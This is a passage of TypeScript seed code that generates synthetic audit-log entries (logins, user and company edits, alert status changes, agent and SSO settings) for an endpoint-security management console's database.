  const now = ctx.now.getTime();
  const target = ctx.scale === 'large' ? 10_000 : 2_000;

  const users = await db.query<{
    id: number;
    email: string;
    name: string;
    role: string;
    partner_id: number | null;
    company_id: number | null;
    ja: boolean;
  }>(
    `select u.id, u.email, u.first_name || ' ' || u.last_name as name, u.role, u.partner_id, u.company_id,
       coalesce(co.country = 'Japan', p.id = 102, false) as ja
     from users u left join companies co on co.id = u.company_id left join partners p on p.id = u.partner_id order by u.id`,
  );
  const japaneseName = (u: { name: string; ja: boolean }) => {
    // Japanese names read family name first.
    const [first, last] = u.name.split(' ');
    return u.ja && /[\u3040-\u30ff\u4e00-\u9fff]/.test(u.name) ? `${last} ${first}` : u.name;
  };
  const companies = await db.query<{ id: number; name: string; partner_id: number }>(
    'select id, name, partner_id from companies order by id',
  );
  const groups = await db.query<{ id: number; name: string; company_id: number }>(
    'select g.id, g.name, s.company_id from groups g join sites s on s.id = g.site_id order by g.id',
  );
  const byCompany = <T extends { company_id: number }>(rows: T[]) => {
    const m = new Map<number, T[]>();
    for (const r of rows) m.set(r.company_id, [...(m.get(r.company_id) ?? []), r]);
    return m;
  };
  const computersOf = byCompany(computers);
  const groupsOf = byCompany(groups);
  const usersOf = byCompany(
    users.filter((u) => u.company_id !== null) as Array<(typeof users)[number] & { company_id: number }>,
  );
  const companiesOf = new Map<number, typeof companies>();
  for (const c of companies) companiesOf.set(c.partner_id, [...(companiesOf.get(c.partner_id) ?? []), c]);

  const ipOf = (u: { id: number; ja: boolean }) =>
    u.ja
      ? `2001:db8:81::${(u.id % 250).toString(16)}`
      : `${u.id % 3 === 0 ? '198.51.100' : '203.0.113'}.${10 + (u.id % 240)}`;
  const weightOf = (u: (typeof users)[number]) =>
    u.id >= 9001 && u.id <= 9010 ? 12 : u.role === 'AGMSAdmin' ? 4 : 1;
  const weightedUsers = users.flatMap((u) => Array.from({ length: weightOf(u) }, () => u));
  const pickUser = () => rng.pick(weightedUsers);

  const SERVERS = [
    'PDP-CHI-01',
    'PDP-CHI-02',
    'LRP-CHI-01',
    'PDP-IAD-01',
    'LRP-IAD-01',
    'PDP-TYO-01',
    'LRP-TYO-01',
    'PDP-AMS-01',
  ];
  const ALERTS = [
    'Malicious file blocked: ',
    'Repeated blocks of ',
    'Suspicious child process of ',
    'Agent offline for 24 hours: ',
    'Policy older than 7 days: ',
  ];
  const FILES = [
    'invoice_viewer.exe',
    'rclone.exe',
    'AnyDesk.exe',
    'update_helper.dll',
    'powershell.exe',
    'Zoom.exe',
    'mimikatz.exe',
  ];
  const STATUS_CHANGES = [
    'Unresolved -> InReview',
    'InReview -> Resolved',
    'Unresolved -> Resolved',
    'InReview -> Unresolved',
  ];
  const REVIEW_CHANGES = [
    'DraftReview -> Drafted',
    'Drafted -> Applied',
    'Applied -> Published',
    'Published -> Completed',
    'Published -> KeepEnforcing',
  ];
  const SETTINGS = ['SMTP settings', 'Syslog settings', 'Hash lookup settings'];
  const SSO = ['Azure AD', 'Okta', 'Google Workspace'];

  const rows: unknown[][] = [];
  for (let i = 0; rows.length < target - NAMED_AUDIT.length; i++) {
    const u = pickUser();
    const t = now - Math.floor(rng.next() * 90 * DAY);
    const d = new Date(t);
    const hour = d.getUTCHours();
    // Mostly office hours of the user's region.
    if (!(u.ja ? hour <= 10 : hour >= 13 && hour <= 23) && rng.chance(0.8)) continue;
    const session = rng.weighted([
      ['Login', 40],
      ['Logout', 22],
      ['LoginFailed', 4],
      ['work', ACTIONS_BY_ROLE[u.role]!.length > 0 ? 34 : 0],
    ] as const);
    const action: AuditAction = session === 'work' ? rng.weighted(ACTIONS_BY_ROLE[u.role]!) : session;
    let partnerId = u.partner_id;
    let companyId = u.company_id;
    // Partner and global admins act on a company of theirs.
    if (
      u.company_id === null &&
      ![
        'Login',
        'Logout',
        'LoginFailed',
        'UpdateGlobalSettings',
        'UpdateSsoProvider',
        'UpdateAlertCondition',
      ].includes(action)
    ) {
      const pool = u.partner_id !== null ? (companiesOf.get(u.partner_id) ?? []) : companies;
      const c = pool.length > 0 ? rng.pick(pool) : null;
      if (c) {
        companyId = c.id;
        partnerId = c.partner_id;
      }
    }
    const company = companies.find((c) => c.id === companyId) ?? null;
    const computer =
      companyId !== null
        ? rng.pick(computersOf.get(companyId) ?? [{ name: 'WS-0001' } as ComputerRow])
        : null;
    const group =
      companyId !== null
        ? rng.pick(groupsOf.get(companyId) ?? [{ name: 'Workstations' } as (typeof groups)[number]])
        : null;
    const colleague =
      companyId !== null
        ? rng.pick(usersOf.get(companyId) ?? [u as (typeof users)[number] & { company_id: number }])
        : u;
    let entity: string | null = null;
    let details: string | null = null;
    switch (action) {
      case 'Login':
        details = rng.chance(0.3)
          ? `Signed in with SSO (${rng.pick(['Azure', 'Okta', 'Google'])}).`
          : 'Signed in with password.';
        break;
      case 'Logout':
        details = rng.chance(0.35) ? 'Signed out (session expired).' : 'Signed out.';
        break;
      case 'LoginFailed':
        details = rng.chance(0.85) ? 'Wrong password.' : 'Account locked after 5 failed attempts.';
        break;
      case 'CreateCompany':
      case 'UpdateCompany':
      case 'DeleteCompany':
        entity = company?.name ?? 'Company';
        details =
          action === 'CreateCompany'
            ? 'Company created.'
            : action === 'DeleteCompany'
              ? 'Company deleted.'
              : rng.pick([
                  'Contact phone changed.',
                  'Address changed.',
                  'Contact e-mail changed.',
                  'License status changed.',
                ]);
        break;
      case 'CreateUser':
      case 'UpdateUser':
      case 'DeleteUser':
        entity = japaneseName(colleague);
        details =
          action === 'CreateUser'
            ? `Role ${colleague.role}, company ${company?.name ?? ''}.`
            : rng.pick([
                'Role changed.',
                'Assigned sites changed.',
                'Assigned groups changed.',
                'Name changed.',
              ]);
        break;
      case 'CreateServer':
      case 'UpdateServer':
      case 'DeleteServer':
        entity = rng.pick(SERVERS);
        details =
          action === 'UpdateServer'
            ? rng.pick(['Priority changed from 2 to 1.', 'Port changed from 443 to 8443.', 'Zone changed.'])
            : action === 'CreateServer'
              ? 'Server added.'
              : 'Server removed.';
        break;
      case 'ResolveAlert':
      case 'UpdateAlertStatus':
        {
          const alert = rng.pick(ALERTS);
          entity = `${alert}${alert === ALERTS[3] || alert === ALERTS[4] ? (computer?.name ?? '') : rng.pick(FILES)}`;
        }
        details =
          action === 'ResolveAlert'
            ? rng.pick(['InReview -> Resolved', 'Unresolved -> Resolved'])
            : rng.pick(STATUS_CHANGES);
        break;
      case 'UpdateAlertCondition':
        entity = rng.pick([
          'Malicious file blocked on any endpoint',
          'Agent offline for 24 hours',
          'Same file blocked 50 times in a day',
          'Management server disk above 85 %',
        ]);
        details = rng.pick([
          'Threshold changed.',
          'Notification e-mails changed.',
          'Condition enabled.',
          'Condition disabled.',
        ]);
        break;
      case 'CreateReview':
      case 'ChangeReviewStatus':
        entity = `${group?.name ?? 'Group'} – ${rng.pick(['weekly blocks', 'monthly review', 'new software', 'November blocks'])}`;
        details = action === 'CreateReview' ? 'Review created.' : rng.pick(REVIEW_CHANGES);
        break;
      case 'UpdateAgentSettings':
        entity = group?.name ?? null;
        details = u.ja
          ? rng.pick([
              'デバッグログ保持時間を 0 から 24 に変更しました。',
              'ポリシーのポーリング間隔を 300 秒に変更しました。',
              'プロセスツリーの報告を有効にしました。',
            ])
          : rng.pick([
              'Policy polling interval changed from 600 to 300 seconds.',
              'Process tree reporting enabled.',
              'Debug log hours changed from 0 to 24.',
              'Log severity changed to Warning.',
            ]);
        break;
      case 'UpdateIgnoreEvents':
        entity = group?.name ?? null;
        details = 'Ignore Events Filter Policy was updated successfully';
        break;
      case 'UpdateSeverityEvents':
        entity = group?.name ?? null;
        details = 'Event Severity Policy was updated successfully';
        break;
      case 'UpdateGlobalSettings': {
        entity = rng.pick(SETTINGS);
        details =
          entity === 'SMTP settings'
            ? 'E-Mail settings has been updated!'
            : entity === 'Hash lookup settings'
              ? 'Hash Lookup Successfully Saved'
              : 'Settings has been updated!';
        break;
      }
      case 'UpdateSsoProvider':
        entity = rng.pick(SSO);
        details = rng.pick(['Client secret changed.', 'Provider enabled.', 'Redirect URL changed.']);
        break;
      case 'GenerateOtp':
        entity = computer?.name ?? null;
        details = 'One-time password generated (valid 1 hour).';
        break;
      case 'DeleteComputer':
        entity = computer ? `${computer.name.replace(/\d+$/, '')}${rng.int(900, 999)}` : null;
        details = 'Computer removed from the console.';
        break;
    }
    rows.push([
      t,
      u.id,
      u.email,
      japaneseName(u),
      partnerId,
      companyId,
      action,
      ENTITY_OF[action],
      entity,
      details,
      ipOf(u),
    ]);
  }
  rows.sort((a, b) => (a[0] as number) - (b[0] as number));
  const auditRows: unknown[][] = rows.map((r, i) => [i + 1, new Date(r[0] as number), ...r.slice(1)]);
  const userById = new Map(users.map((u) => [u.id, u]));
  for (const [
    id,
    when,
    userId,
    action,
    entityType,
    entity,
    details,
    ip,
    partnerId,
    companyId,
  ] of NAMED_AUDIT) {
    const u = userById.get(userId);
    if (!u) continue;
    auditRows.push([
      id,
      at(when),
      userId,
      u.email,
      japaneseName(u),
      partnerId,
      companyId,
      action,
      entityType,
      entity,
      details,
      ip,
    ]);
  }
  await insertRows(
    db,
    'audit_logs',
    [
      ['id', 'int'],
      ['logged_at', 'timestamptz'],
      ['user_id', 'int'],
      ['user_email', 'text'],
      ['user_name', 'text'],
      ['partner_id', 'int'],
      ['company_id', 'int'],
      ['action', 'text'],
      ['entity_type', 'text'],
      ['entity_name', 'text'],
      ['details', 'text'],
      ['ip_address', 'text'],
    ],
    auditRows.filter((r) => (r[1] as Date).getTime() <= now),
  );
}
